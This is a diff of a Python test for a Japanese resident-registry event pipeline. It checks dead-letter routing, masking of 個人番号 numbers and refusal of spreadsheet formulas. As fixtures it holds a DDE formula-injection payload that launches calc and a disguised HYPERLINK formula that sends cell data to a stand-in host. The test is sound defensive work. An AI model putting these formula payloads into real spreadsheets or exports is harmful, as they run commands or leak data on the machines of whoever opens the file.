@@ -40,9 +40,11 @@ TOPIC = "registry.resident.events"
 MY_NUMBER = "98765432109" + str(my_number_check_digit("98765432109"))
 FULL_WIDTH_MY_NUMBER = MY_NUMBER.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
 FORMULA = "=cmd|' /C calc'!A0"
+SMALL_EQUALS_FORMULA = '\ufe66HYPERLINK("http://x.example/?q="&A1)'  # NFKC: =HYPERLINK(…)
+MINUS_GROUPED = f"{MY_NUMBER[:4]}\u2212{MY_NUMBER[4:8]}\u2212{MY_NUMBER[8:]}"  # U+2212 MINUS
 HEADER = (
     "統合宛名番号,異動日,処理日時,異動事由,氏,名,氏カナ,名カナ,生年月日,性別,住民種別,郵便番号,"
-    "住所,方書,世帯番号,続柄,前住所市町村コード,前住所,転出先市町村コード,転出先住所"
+    "住所,方書,世帯番号,続柄,前住所市町村コード,前住所,転出先市町村コード,転出先住所,支援措置"
 )
 # Names and addresses of the test residents: none may appear in logs or metrics.
 PERSONAL = ["鷹野", "澄江", "ﾀｶﾉ", "タカノ", "旭ケ丘", "麹町", "瑞穂荘", "柊木", "楓"]
@@ -52,7 +54,7 @@ def _row(key: str, family: str, building: str = "瑞穂荘101") -> str:
     return (
         f"{key},R8.10.1,2026-10-09 10:42:17,転入,{family},澄江,ﾀｶﾉ,ｽﾐｴ,昭和55年4月1日,女,日本人,"
         f"〒064-0941,北海道札幌市中央区旭ケ丘５丁目６番５１号,{building},0001023454,世帯主,131016,"
-        "東京都千代田区麹町3丁目2番1号,,"
+        "東京都千代田区麹町3丁目2番1号,,,無"
     )
 
 
@@ -93,18 +95,32 @@ async def _raw_records(settings: Settings, catalogue: Catalogue, topic: str) -> 
         with_number["detail"][1]["person"]["given_name"] = MY_NUMBER  # (branch, record) union
         look_alike = copy.deepcopy(born)  # full-width digits in the key: not the same resident
         look_alike["resident_key"] = "０００００００４５６７８９０６"
+        # refused for a formula (after NFKC), with a 個人番号 in free text in another field
+        formula = copy.deepcopy(born)
+        formula["resident_key"] = "000000045678907"
+        formula["detail"][1]["person"]["family_name"] = SMALL_EQUALS_FORMULA
+        formula["reason"] = f"出生 マイナンバー:{MINUS_GROUPED}"
+        header_number = copy.deepcopy(born)  # a valid value, a 個人番号 in a vendor header
+        header_number["resident_key"] = "000000045678908"
         records = {
             "truncated": framed[:40],  # right magic byte and id, body cut short
             "unknown-id": struct.pack(">bI", 0, 1_999_999_999) + framed[5:],
             "magic": b"\x02" + framed[1:],
             "my-number": encoder.encode(with_number),
             "look-alike": encoder.encode(look_alike),
+            "formula-nfkc": encoder.encode(formula),
+            "header-number": encoder.encode(header_number),
             "valid-raw": framed,
         }
     finally:
         await client.aclose()
+    extra = {
+        "header-number": [("x-vendor-note", f"個人番号 {MINUS_GROUPED}".encode())],
+        "valid-raw": [("x-vendor-trace", b"trace-0042")],  # dropped by standardize
+    }
     return [
-        (name.encode(), value, [("ce_id", name.encode())], None) for name, value in records.items()
+        (name.encode(), value, [("ce_id", name.encode()), *extra.get(name, [])], None)
+        for name, value in records.items()
     ]
 
 
@@ -163,7 +179,7 @@ def test_bad_input_ends_as_a_clear_error_or_in_the_dlq_and_nothing_valid_is_lost
                 settings,
                 f"{prefix}dlq.{TOPIC}",
                 lambda r: (
-                    sum(header_map(x.headers)["renkei.dlq.stage"] == "standardize" for x in r) >= 6
+                    sum(header_map(x.headers)["renkei.dlq.stage"] == "standardize" for x in r) >= 8
                 ),
                 90,
             )
@@ -180,6 +196,8 @@ def test_bad_input_ends_as_a_clear_error_or_in_the_dlq_and_nothing_valid_is_lost
     assert keys == ["000000012345678", "000000012345680", "000000012345684", "000000045678904"]
     cleaned = next(v["value"] for v in std if v["value"]["resident_key"] == "000000012345680")
     assert cleaned["detail"]["person"]["family_name"] == "柊木"
+    vendor = next(v for v in std if v["value"]["resident_key"] == "000000045678904")
+    assert "x-vendor-trace" not in vendor["headers"] and vendor["headers"]["ce_id"] == "valid-raw"
 
     by_reason: dict[str, list[str]] = {}
     for record in dlq_stage:
@@ -189,6 +207,8 @@ def test_bad_input_ends_as_a_clear_error_or_in_the_dlq_and_nothing_valid_is_lost
         ).append(headers.get("ce_id") or headers.get("renkei.dlq.origin", ""))
         blob = (record.key or b"") + (record.value or b"") + repr(record.headers).encode()
         assert MY_NUMBER.encode() not in blob and FULL_WIDTH_MY_NUMBER.encode() not in blob
+        texts = " ".join(header_map(record.headers).values())
+        assert MINUS_GROUPED.encode() not in blob and MINUS_GROUPED not in texts
     assert sorted(by_reason["publisher:validation"]) == [
         "idou.csv line 5",
         "idou.csv line 6",
@@ -197,8 +217,11 @@ def test_bad_input_ends_as_a_clear_error_or_in_the_dlq_and_nothing_valid_is_lost
     assert sorted(by_reason["standardize:deserialization"]) == ["magic", "truncated"]
     assert by_reason["standardize:schema"] == ["unknown-id"]
     standardization = by_reason["standardize:standardization"]
-    assert {"my-number", "look-alike"} <= set(standardization)
-    assert len(standardization) == 3  # and the formula row of the CSV (its ce_id is an event id)
+    assert {"my-number", "look-alike", "formula-nfkc", "header-number"} <= set(standardization)
+    assert len(standardization) == 5  # and the formula row of the CSV (its ce_id is an event id)
+    for name in ("formula-nfkc", "header-number"):  # masked whatever the reason
+        kept = next(r for r in dlq_stage if header_map(r.headers).get("ce_id") == name)
+        assert header_map(kept.headers)["renkei.masked"] == "my_number", name
     masked = next(r for r in dlq_stage if header_map(r.headers).get("ce_id") == "my-number")
     assert header_map(masked.headers)["renkei.masked"] == "my_number"
     assert b"*" * 12 in (masked.value or b"")
